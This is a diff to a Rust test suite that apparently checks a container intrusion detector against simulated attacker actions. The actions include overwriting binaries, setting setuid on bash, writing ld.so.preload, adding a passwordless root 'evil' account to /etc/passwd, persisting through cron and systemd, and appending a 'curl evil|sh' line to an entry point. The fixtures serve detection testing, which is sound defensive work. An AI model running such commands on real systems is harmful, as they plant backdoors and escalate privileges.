@@ -1,40 +1,39 @@
-//! What an attacker or an operator does to a container, and what it must be
-//! called. Each trial also asserts that nothing else was told.
-
-use std::process::{Command, Stdio};
+//! Changes that an attacker or an operator makes in a container, each with the findings that
+//! it must cause. Each test also asserts that nothing else is reported.
 
 use anyhow::ensure;
 use libtest_mimic::Trial;
 
 use crate::node::{Node, only, wait_for};
-use crate::{programs, trial};
+use crate::sessions::{self, User};
+use crate::{programs, test};
 
-pub(crate) fn trials() -> Vec<Trial> {
+pub(crate) fn tests() -> Vec<Trial> {
     vec![
-        trial("a01_dropped_program_is_added_then_new", a01_added_then_new),
-        trial("a01_dropped_and_run_at_once_is_one_finding", a01_at_once),
-        trial("a02_copied_program_is_relocated", a02_copy),
-        trial("a04_overwritten_program_is_modified", a04_overwritten),
-        trial("a04_older_times_change_nothing", a04_with_older_times),
-        trial("a05_one_byte_patch_is_modified", a05_one_byte),
-        trial("a06_renamed_over_is_modified", a06_renamed_over),
-        trial("a07_script_is_the_subject_not_its_shell", a07_script),
-        trial("a14_running_and_deleted_is_new_and_deleted", a14_deleted),
-        trial("a18_preloaded_library_is_persistence", a18_preload),
-        trial("a20_symlink_is_followed_to_the_file", a20_symlink),
-        trial("a21_hard_link_of_an_image_program_is_relocated", a21_hard_link),
-        trial("a22_moved_program_is_removed_and_relocated", a22_moved),
-        trial("a23_removed_tools_are_told", a23_removed),
-        trial("a24_setuid_is_privileged", a24_setuid),
-        trial("a25_file_capability_is_privileged", a25_capability),
-        trial("a25_rights_of_new_linked_and_moved_files", a25_other_ways),
-        trial("a34_what_others_run_or_obey_is_persistence", a34_persistence),
-        trial("a35_changed_entry_point_is_told_and_runs_at_the_next_start", a35_entry_point),
-        trial("a_stopped_containers_snapshot_can_be_removed", a_removed_snapshot),
-        trial("a28_exec_with_terminal_is_one_interactive_session", a28_interactive),
-        trial("a29_exec_without_terminal_is_an_exec_session", a29_exec),
-        trial("a45_drift_in_one_container_never_marks_another", a45_two_containers),
-        trial("a_thousand_short_executions_are_a_thousand", a_thousand_executions),
+        test("a01_dropped_program_is_added_then_new", a01_added_then_new),
+        test("a01_dropped_and_run_at_once_is_one_finding", a01_at_once),
+        test("a02_copied_program_is_relocated", a02_copy),
+        test("a04_overwritten_program_is_modified", a04_overwritten),
+        test("a04_older_times_change_nothing", a04_with_older_times),
+        test("a05_one_byte_patch_is_modified", a05_one_byte),
+        test("a06_renamed_over_is_modified", a06_renamed_over),
+        test("a07_script_is_the_subject_not_its_shell", a07_script),
+        test("a14_running_and_deleted_is_new_and_deleted", a14_deleted),
+        test("a18_preloaded_library_is_persistence", a18_preload),
+        test("a20_symlink_is_followed_to_the_file", a20_symlink),
+        test("a21_hard_link_of_an_image_program_is_relocated", a21_hard_link),
+        test("a22_moved_program_is_removed_and_relocated", a22_moved),
+        test("a23_removed_tools_are_reported", a23_removed),
+        test("a24_setuid_is_privileged", a24_setuid),
+        test("a25_file_capability_is_privileged", a25_capability),
+        test("a25_rights_of_new_linked_and_moved_files", a25_other_ways),
+        test("a34_files_that_other_programs_run_or_read_are_persistence", a34_persistence),
+        test("a35_changed_entry_point_is_reported_and_runs_at_the_next_start", a35_entry_point),
+        test("a_stopped_containers_snapshot_can_be_removed", a_removed_snapshot),
+        test("a28_exec_with_terminal_is_one_interactive_session", a28_interactive),
+        test("a29_exec_without_terminal_is_an_exec_session", a29_exec),
+        test("a45_drift_in_one_container_never_marks_another", a45_two_containers),
+        test("a_thousand_short_executions_are_all_counted", a_thousand_executions),
     ]
 }
 
@@ -42,14 +41,15 @@ fn a01_added_then_new(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.lay_payload("x")?;
     container.sh("cat /.control/x > /tmp/x; chmod +x /tmp/x")?;
-    let findings = container.told(&["low file.added /tmp/x"])?;
+    let findings = container.expect_findings(&["low file.added /tmp/x"])?;
     let added = only(&findings, "file.added")?;
-    // A walk that finds it again has nothing to add.
+    // A scan that finds it again has nothing to add.
     assert_eq!((&added["count"], &added["revision"]), (&1.into(), &1.into()), "{added:#}");
     let added = added["id"].clone();
 
     container.sh("/tmp/x")?;
-    let findings = container.told(&["low file.added /tmp/x", "critical exec.new /tmp/x"])?;
+    let findings =
+        container.expect_findings(&["low file.added /tmp/x", "critical exec.new /tmp/x"])?;
     let run = only(&findings, "exec.new")?;
     assert_eq!(run["story"], added, "{run:#}");
     assert_eq!(run["file"]["blake3"], only(&findings, "file.added")?["file"]["blake3"]);
@@ -66,13 +66,13 @@ fn a01_at_once(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.lay_payload("x")?;
     container.sh("cat /.control/x > /tmp/x; chmod +x /tmp/x; /tmp/x")?;
-    container.told(&["critical exec.new /tmp/x"]).map(drop)
+    container.expect_findings(&["critical exec.new /tmp/x"]).map(drop)
 }
 
 fn a02_copy(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("cp /bin/ls /bin/.cache-ls; /bin/.cache-ls")?;
-    let findings = container.told(&["medium exec.relocated /bin/.cache-ls"])?;
+    let findings = container.expect_findings(&["medium exec.relocated /bin/.cache-ls"])?;
     let relocated = only(&findings, "exec.relocated")?;
     assert_eq!(relocated["expected"]["path"], "/bin/ls", "{relocated:#}");
     assert_eq!(relocated["expected"]["blake3"], relocated["file"]["blake3"]);
@@ -91,24 +91,26 @@ fn overwrite_curl(node: &Node, afterwards: &str) -> anyhow::Result<()> {
     let container = node.container()?;
     container.lay_payload("x")?;
     container.sh(&format!("cat /.control/x > /usr/bin/curl\n{afterwards}"))?;
-    let findings = container.told(&["medium file.modified /usr/bin/curl"])?;
+    let findings = container.expect_findings(&["medium file.modified /usr/bin/curl"])?;
     let modified = only(&findings, "file.modified")?.clone();
     assert_eq!(modified["expected"]["path"], "/usr/bin/curl");
     assert_ne!(modified["expected"]["blake3"], modified["file"]["blake3"]);
 
     container.sh("/usr/bin/curl http://x")?;
-    let findings = container
-        .told(&["medium file.modified /usr/bin/curl", "critical exec.modified /usr/bin/curl"])?;
+    let findings = container.expect_findings(&[
+        "medium file.modified /usr/bin/curl",
+        "critical exec.modified /usr/bin/curl",
+    ])?;
     assert_eq!(only(&findings, "exec.modified")?["story"], modified["id"]);
     Ok(())
 }
 
 fn a05_one_byte(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
-    // Whether the patched program still works is of no interest.
+    // Whether the patched program still works does not matter.
     container.sh("printf '\\220' | dd of=/usr/sbin/nginx bs=1 seek=4096 conv=notrunc\n\
          /usr/sbin/nginx -v || true")?;
-    let findings = container.told(&["critical exec.modified /usr/sbin/nginx"])?;
+    let findings = container.expect_findings(&["critical exec.modified /usr/sbin/nginx"])?;
     let modified = only(&findings, "exec.modified")?;
     assert_eq!(modified["file"]["size"], modified["expected"]["size"], "{modified:#}");
     Ok(())
@@ -118,13 +120,13 @@ fn a06_renamed_over(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("cp /usr/bin/python3 /tmp/p; printf x >> /tmp/p\n\
          mv /tmp/p /usr/bin/python3; /usr/bin/python3")?;
-    container.told(&["critical exec.modified /usr/bin/python3"]).map(drop)
+    container.expect_findings(&["critical exec.modified /usr/bin/python3"]).map(drop)
 }
 
 fn a07_script(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("echo '#!/bin/sh' > /tmp/s; echo true >> /tmp/s; chmod +x /tmp/s; /tmp/s")?;
-    let findings = container.told(&["high exec.script /tmp/s"])?;
+    let findings = container.expect_findings(&["high exec.script /tmp/s"])?;
     assert_eq!(only(&findings, "exec.script")?["file"]["type"], "script");
     Ok(())
 }
@@ -133,7 +135,7 @@ fn a14_deleted(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.lay_payload("x")?;
     container.sh("cp /.control/x /tmp/x; /tmp/x 3000 & sleep 0.2; rm /tmp/x")?;
-    let findings = container.told(&["critical exec.new /tmp/x"])?;
+    let findings = container.expect_findings(&["critical exec.new /tmp/x"])?;
     let run = only(&findings, "exec.new")?;
     assert_eq!(run["file"]["deleted"], true, "{run:#}");
     Ok(())
@@ -143,7 +145,7 @@ fn a20_symlink(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.lay_payload("x")?;
     container.sh("cp /.control/x /tmp/x; ln -sf /tmp/x /usr/local/bin/kubectl; kubectl 500")?;
-    let findings = container.told(&["critical exec.new /tmp/x"])?;
+    let findings = container.expect_findings(&["critical exec.new /tmp/x"])?;
     let run = only(&findings, "exec.new")?;
     assert_eq!(run["invoked_as"], "/usr/local/bin/kubectl", "{run:#}");
     Ok(())
@@ -152,14 +154,14 @@ fn a20_symlink(node: &Node) -> anyhow::Result<()> {
 fn a21_hard_link(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("ln /bin/busybox /tmp/sh2; /tmp/sh2 sh -c true || true")?;
-    container.told(&["high exec.relocated /tmp/sh2"]).map(drop)
+    container.expect_findings(&["high exec.relocated /tmp/sh2"]).map(drop)
 }
 
 fn a22_moved(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("mv /usr/bin/wget /usr/bin/.w; /usr/bin/.w http://x")?;
     container
-        .told(&["low file.removed /usr/bin/wget", "medium exec.relocated /usr/bin/.w"])
+        .expect_findings(&["low file.removed /usr/bin/wget", "medium exec.relocated /usr/bin/.w"])
         .map(drop)
 }
 
@@ -167,14 +169,17 @@ fn a23_removed(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("rm -f /usr/bin/auditctl /usr/sbin/tcpdump")?;
     container
-        .told(&["medium file.removed /usr/bin/auditctl", "medium file.removed /usr/sbin/tcpdump"])
+        .expect_findings(&[
+            "medium file.removed /usr/bin/auditctl",
+            "medium file.removed /usr/sbin/tcpdump",
+        ])
         .map(drop)
 }
 
 fn a24_setuid(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("chmod u+s /bin/bash")?;
-    let findings = container.told(&["high file.privileged /bin/bash"])?;
+    let findings = container.expect_findings(&["high file.privileged /bin/bash"])?;
     let privileged = only(&findings, "file.privileged")?;
     assert_eq!(privileged["file"]["mode"], "4755", "{privileged:#}");
     assert_eq!(privileged["expected"]["mode"], "0755");
@@ -185,7 +190,7 @@ fn a24_setuid(node: &Node) -> anyhow::Result<()> {
 fn a25_capability(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("/usr/sbin/setcap cap_net_raw,cap_setuid+ep /usr/bin/python3")?;
-    let findings = container.told(&["high file.privileged /usr/bin/python3"])?;
+    let findings = container.expect_findings(&["high file.privileged /usr/bin/python3"])?;
     let privileged = only(&findings, "file.privileged")?;
     assert_eq!(privileged["file"]["capability"], "cap_setuid,cap_net_raw=ep", "{privileged:#}");
     assert_eq!(privileged["expected"]["capability"], serde_json::Value::Null);
@@ -197,7 +202,7 @@ fn a25_other_ways(node: &Node) -> anyhow::Result<()> {
     container.sh("mkdir /tmp/d; cp /bin/ls /tmp/l; chmod 4755 /tmp/l\n\
          ln /tmp/l /tmp/m; mv /tmp/l /tmp/d/n")?;
     let wanted = ["high file.privileged /tmp/d/n", "high file.privileged /tmp/m"];
-    // One content is one relocation, wherever it was seen first.
+    // One content is one relocation, at whichever path it was seen first.
     let first = wait_for("the relocation", || {
         let findings = container.findings()?;
         let found = findings.iter().find(|finding| finding["kind"] == "file.relocated").cloned();
@@ -205,13 +210,13 @@ fn a25_other_ways(node: &Node) -> anyhow::Result<()> {
     })?;
     let relocated =
         format!("info file.relocated {}", first["file"]["path"].as_str().unwrap_or("?"));
-    container.told(&[wanted[0], wanted[1], &relocated]).map(drop)
+    container.expect_findings(&[wanted[0], wanted[1], &relocated]).map(drop)
 }
 
 fn a18_preload(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
     container.sh("echo /tmp/evil.so > /etc/ld.so.preload")?;
-    let findings = container.told(&["high file.persistence /etc/ld.so.preload"])?;
+    let findings = container.expect_findings(&["high file.persistence /etc/ld.so.preload"])?;
     let preload = only(&findings, "file.persistence")?;
     ensure!(preload["file"]["blake3"].is_string(), "{preload:#}");
     assert_eq!(preload["attack"]["technique"], "T1546");
@@ -230,7 +235,7 @@ fn a34_persistence(node: &Node) -> anyhow::Result<()> {
          ln -s ../x.service /etc/systemd/system/x.target.wants/x.service\n\
          echo 'evil::0:0::/:/bin/sh' >> /etc/passwd\n\
          cp /etc/group /tmp/g; cat /tmp/g > /etc/group")?;
-    let findings = container.told(&[
+    let findings = container.expect_findings(&[
         "high file.persistence /etc/cron.d/a",
         "high file.persistence /root/.ssh/authorized_keys",
         "high file.persistence /etc/profile.d/x.sh",
@@ -246,8 +251,8 @@ fn a34_persistence(node: &Node) -> anyhow::Result<()> {
 
 fn a35_entry_point(node: &Node) -> anyhow::Result<()> {
     let container = node.container_with_entry_point()?;
-    // Where it was marked late, the script that init runs is looked at a moment later: the
-    // image's until then.
+    // If the container was marked late, the script that init runs is examined a moment later.
+    // Until then it must be the image's.
     std::thread::sleep(crate::node::SETTLE);
     container.diff()?;
     container.sh("echo '# curl evil|sh' >> /docker-entrypoint.sh")?;
@@ -255,7 +260,7 @@ fn a35_entry_point(node: &Node) -> anyhow::Result<()> {
         "medium file.modified /docker-entrypoint.sh",
         "high file.persistence /docker-entrypoint.sh",
     ];
-    container.told(&changed)?;
+    container.expect_findings(&changed)?;
     // A container that is not yet marked when its entry point runs is seen at the
     // next start.
     let expected = [&changed[..], &["high exec.script /docker-entrypoint.sh"]].concat();
@@ -267,7 +272,7 @@ fn a35_entry_point(node: &Node) -> anyhow::Result<()> {
             break;
         }
     }
-    container.told(&expected).map(drop)
+    container.expect_findings(&expected).map(drop)
 }
 
 fn a_removed_snapshot(node: &Node) -> anyhow::Result<()> {
@@ -282,34 +287,12 @@ fn a_removed_snapshot(node: &Node) -> anyhow::Result<()> {
 
 fn a28_interactive(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
-    // `script` gives ctr the terminal that a person at a keyboard has.
-    let ctr = format!(
-        "{} --address {} --namespace {} task exec --fifo-dir {} -t --exec-id person {} /bin/sh",
-        programs::find("ctr")?.display(),
-        node.path("containerd.sock").display(),
-        node.namespace,
-        node.path("fifo").display(),
-        container.id,
-    );
-    let mut person = Command::new(programs::find("script")?)
-        .args(["-qec", &ctr, "/dev/null"])
-        .stdin(Stdio::piped())
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()?;
-    let mut keyboard = person.stdin.take().expect("stdin is piped");
-    {
-        use std::io::Write as _;
-        // Sub-shells and a second shell in it are the same session.
-        keyboard.write_all(b"/bin/ls /\n(cat /etc/passwd)\n/bin/bash -c 'ls; true'\n")?;
-        std::thread::sleep(std::time::Duration::from_secs(1));
-        keyboard.write_all(b"exec /bin/bash\nexit\n")?;
-    }
-    let findings = container.told(&["medium session.interactive"]);
-    drop(keyboard);
-    let _ = person.kill();
-    person.wait()?;
-    let findings = findings?;
+    let mut user = User::in_container(&container, "user")?;
+    // Sub-shells and a second shell in it are the same session.
+    user.types("/bin/ls /\n(cat /etc/passwd)\n/bin/bash -c 'ls; true'\n")?;
+    std::thread::sleep(std::time::Duration::from_secs(1));
+    user.types("exec /bin/bash\nexit\n")?;
+    let findings = container.expect_findings(&["medium session.interactive"])?;
     let session = only(&findings, "session.interactive")?;
     ensure!(session["process"]["tty"].as_str().is_some_and(|tty| tty.starts_with("pts/")));
     assert_eq!(session["file"], serde_json::Value::Null);
@@ -319,10 +302,8 @@ fn a28_interactive(node: &Node) -> anyhow::Result<()> {
 
 fn a29_exec(node: &Node) -> anyhow::Result<()> {
     let container = node.container()?;
-    let fifo = node.path("fifo");
-    let exec = ["task", "exec", "--fifo-dir", &fifo.to_string_lossy(), "--exec-id", "copy"];
-    node.ctr(&[&exec[..], &[&container.id, "/bin/cat", "/etc/passwd"]].concat())?;
-    let findings = container.told(&["info session.exec"])?;
+    sessions::run(&container, &["--exec-id", "copy"], &["/bin/cat", "/etc/passwd"])?;
+    let findings = container.expect_findings(&["info session.exec"])?;
     let session = only(&findings, "session.exec")?;
     assert_eq!(session["process"]["tty"], serde_json::Value::Null, "{session:#}");
     Ok(())
@@ -331,13 +312,13 @@ fn a29_exec(node: &Node) -> anyhow::Result<()> {
 fn a45_two_containers(node: &Node) -> anyhow::Result<()> {
     let (drifting, faithful) = (node.container()?, node.container()?);
     drifting.lay_payload("x")?;
-    // Run after it was told, so that it is told twice however busy the machine is.
+    // Run after it was reported, so that there are two findings however busy the machine is.
     drifting.sh("cp /.control/x /tmp/x")?;
-    drifting.told(&["low file.added /tmp/x"])?;
+    drifting.expect_findings(&["low file.added /tmp/x"])?;
     drifting.sh("/tmp/x")?;
     faithful.sh("/bin/ls / >/dev/null; /usr/bin/app")?;
-    drifting.told(&["low file.added /tmp/x", "critical exec.new /tmp/x"])?;
-    faithful.told_nothing()
+    drifting.expect_findings(&["low file.added /tmp/x", "critical exec.new /tmp/x"])?;
+    faithful.expect_silence()
 }
 
 fn a_thousand_executions(node: &Node) -> anyhow::Result<()> {
@@ -350,7 +331,7 @@ fn a_thousand_executions(node: &Node) -> anyhow::Result<()> {
         )?
         .finish(std::time::Duration::from_secs(120))?;
     container.counted("exec.new", 1000)?;
-    let findings = container.told(&["critical exec.new /tmp/x"])?;
+    let findings = container.expect_findings(&["critical exec.new /tmp/x"])?;
     let run = only(&findings, "exec.new")?;
     assert_eq!(run["count"], 1000, "{run:#}");
     let mark = format!("{} {} x", node.namespace, container.id);
